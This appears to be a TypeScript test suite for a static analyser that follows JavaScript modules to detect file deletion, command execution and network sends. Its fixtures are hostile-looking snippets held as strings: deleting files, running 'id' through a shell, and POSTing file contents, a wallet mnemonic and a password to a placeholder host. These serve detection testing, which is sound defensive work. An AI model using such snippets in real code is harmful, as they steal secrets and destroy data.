import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';

type Files = Readonly<Record<string, string>>;

const repeated = (times: number, make: (at: number) => string): string => Array.from({ length: times }, (_, at) => make(at)).join('\n');
const filesOf = (times: number, make: (at: number) => string): Files =>
  Object.fromEntries(Array.from({ length: times }, (_, at) => [`f${at}.js`, make(at)]));
const deletes = (files: Files): string[] =>
  behaviourOf(files).effects.flatMap(({ kind, triggers }) => (kind === 'deletes' ? [triggers.join()] : []));

describe('what files hand on', () => {
  for (const [what, hands] of [
    ['all of each other', (to: number) => `export * from './f${to}.js';`],
    ['one name of each other', (to: number) => `export { go } from './f${to}.js';`],
    ['each other whole', (to: number) => `exports.go = require('./f${to}').go;`],
  ] as const)
    it(`is found where they hand on ${what}, each in every way there is`, () => {
      const ring = filesOf(24, at => (at === 23 ? `exports.go = () => require('fs').unlinkSync('/x');` : repeated(24, to => hands(to))));
      assert.deepEqual(deletes({ ...ring, 'index.js': `import { go, no } from './f0.js'; go(); no(); no.a.b(); new no().c();` }), [
        'import',
      ]);
    });

  it('is found through many files', () =>
    assert.deepEqual(
      deletes({
        ...filesOf(30, at =>
          at === 29 ? `exports.go = () => require('fs').unlinkSync('/x');` : `module.exports = require('./f${at + 1}');`,
        ),
        'index.js': `require('./f0').go();`,
      }),
      ['import'],
    ));

  it('through more files than are followed is a gap', () => {
    const chain = (length: number): readonly string[] =>
      behaviourOf({
        ...filesOf(length, at => `module.exports = require('./f${at + 1}');`),
        [`f${length}.js`]: `exports.go = () => require('fs').unlinkSync('/x');`,
        'index.js': `require('./f0').go();`,
      }).unfollowed;
    assert.deepEqual(chain(20), []);
    assert.match(chain(80).join(), /not followed to the end/);
  });
});

describe('more than is followed is a gap', () => {
  it('of the ways that data takes', () => {
    const sends = (times: number): readonly string[] =>
      behaviourOf({
        'index.js': repeated(
          times,
          at => `fetch('https://a.invalid/${at}', { method: 'POST', body: require('fs').readFileSync('a${at}') });`,
        ),
      }).unfollowed;
    assert.deepEqual(sends(20), []);
    assert.match(sends(20_100).join(), /not all were followed/);
  });

  for (const [what, code, gap] of [
    ['a command', `require('child_process').exec('${'true; '.repeat(1500)}id')`, /a command that index\.js starts/],
    ['its words', `require('child_process').spawn('sh', ['-c', '${'true; '.repeat(1500)}id'])`, /a command that index\.js starts/],
    ['code that a process is started with', `new Worker(URL.createObjectURL(new Blob(['${'true; '.repeat(1500)}'])))`, /^$/],
    ['a short one', `require('child_process').exec('true; id')`, /^$/],
    ['a path', `require('fs').unlinkSync('${'a/'.repeat(5000)}b')`, /^$/],
  ] as const)
    it(`of ${what}`, () => assert.match(behaviourOf({ 'index.js': code }).unfollowed.join(), gap));
});

describe('what functions hand on to each other in more ways than can be followed', () => {
  const fan = (files: number, make: (call: (at: number, args: string) => string) => string): Files =>
    filesOf(files, at => make((to, args) => `require('./f${(at * 3 + to * 7 + 1) % files}').f(${args});`));

  it('is told of each parameter once', () => {
    const files = fan(
      60,
      call =>
        `exports.f = (a, b, c, d) => { require('child_process').exec(a + b); ${repeated(8, to => call(to, 'a + b, b + c, c + d, d + a'))} };`,
    );
    const { effects } = behaviourOf({ ...files, 'index.js': `require('./f0').f('x', 'y', 'z', 'w');` });
    assert.ok(effects.some(({ kind, target }) => kind === 'spawns' && target.includes('x | y')));
  });

  it('is followed to the secret', () => {
    const files = fan(
      60,
      call => `exports.f = (a, b) => { fetch('https://a.invalid', { method: 'POST', body: b }); ${repeated(16, to => call(to, 'a, b'))} };`,
    );
    const { effects } = behaviourOf({ ...files, 'index.js': `exports.sign = wallet => require('./f0').f(1, wallet.mnemonic);` });
    assert.ok(effects.some(({ kind, details }) => kind === 'connects' && /mnemonic/i.test(details.get('holds') ?? '')));
  });

  it('of parts of parts that two files hand each other without an end: they are some part', () => {
    const { unfollowed, effects } = behaviourOf({
      'index.js': `const other = require('./other'); exports.walk = node => { other.walk(node.left); other.walk(node.right); other.walk(node.password); };`,
      'other.js': `const own = require('./index'); exports.walk = node => { fetch('https://a.invalid', { method: 'POST', body: node }); own.walk(node.left); own.walk(node.right); };`,
    });
    assert.deepEqual(unfollowed, []);
    assert.ok(effects.some(({ kind, details }) => kind === 'connects' && details.get('holds') === 'password'));
  });

  it('of settings in a command that may be several, of which each is one of several', () => {
    const { unfollowed } = behaviourOf({
      'index.js': `exports.ask = (way, host, port) => { const settings = { method: way || 'GET', host: host ? 'a.invalid' : 'b.invalid', port: port ? '80' : '443', path: way ? '/a' : '/b', agent: host ? 'x' : 'y', headers: { accept: way ? 'c' : 'd', referer: host ? 'e' : 'f', origin: port ? 'g' : 'h' } };
        const code = "const settings = " + JSON.stringify(settings) + "; unmask(settings, " + JSON.stringify(settings) + ");${'x'.repeat(300)}"; require('child_process').spawn(process.argv[0], ['-e', code]); };`,
    });
    assert.deepEqual(unfollowed, []);
  });

  it('of objects that hold each other in many ways and are written as JSON', () => {
    const level = (at: number): string => `const o${at + 1} = { ${Array.from({ length: 32 }, (_, key) => `k${key}: o${at}`).join(', ')} };`;
    const code = `const o0 = {}; ${Array.from({ length: 8 }, (_, at) => level(at)).join(' ')} require('child_process').exec('unmask-marker ' + JSON.stringify(o8));`;
    assert.ok(
      behaviourOf({ 'index.js': code }).effects.some(({ kind, target }) => kind === 'spawns' && target.startsWith('unmask-marker {')),
    );
  });
});
